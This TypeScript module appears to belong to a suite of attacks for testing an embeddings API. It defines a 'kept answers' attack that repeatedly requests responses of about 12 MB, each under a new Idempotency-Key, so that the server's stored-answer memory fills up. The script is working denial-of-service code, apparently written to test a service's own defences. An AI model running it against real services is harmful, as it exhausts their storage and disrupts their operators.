import { randomUUID } from 'node:crypto'
import type { Attack } from '../attack.ts'

/** Vectors that make an answer of some 12 MB, for a cent. */
const BODY = JSON.stringify({
  model: 'svc/sandbox-embedding',
  input: Array.from({ length: 1_500 }, () => 'x'),
  dimensions: 4_096,
})
/** One at a time: this attack is on the store. Memory for answers that are made and paid for has a budget of its own. */
const AT_ONCE = 1

export const keptAnswers: Attack = {
  name: 'kept answers',
  about:
    'Has as many answers of 12 MB kept as its balance pays for, each with a new Idempotency-Key; $25 filled 31 GB.',
  leastSeconds: 8,
  async run({ url, keys }, signal) {
    const byStatus = new Map<number, number>()
    const one = async (index: number) => {
      while (!signal.aborted) {
        const headers = { Authorization: `Bearer ${keys[index % keys.length]}`, 'Idempotency-Key': randomUUID() }
        let status = 0
        try {
          const answer = await fetch(`${url}/embeddings`, { method: 'POST', headers, body: BODY, signal })
          status = answer.status
          await answer.arrayBuffer()
        } catch {
          if (signal.aborted) return
        }
        byStatus.set(status, (byStatus.get(status) ?? 0) + 1)
        await new Promise((resolve) => setTimeout(resolve, 100))
      }
    }
    await Promise.all(Array.from({ length: AT_ONCE }, (_, index) => one(index)))
    return byStatus
  },
}
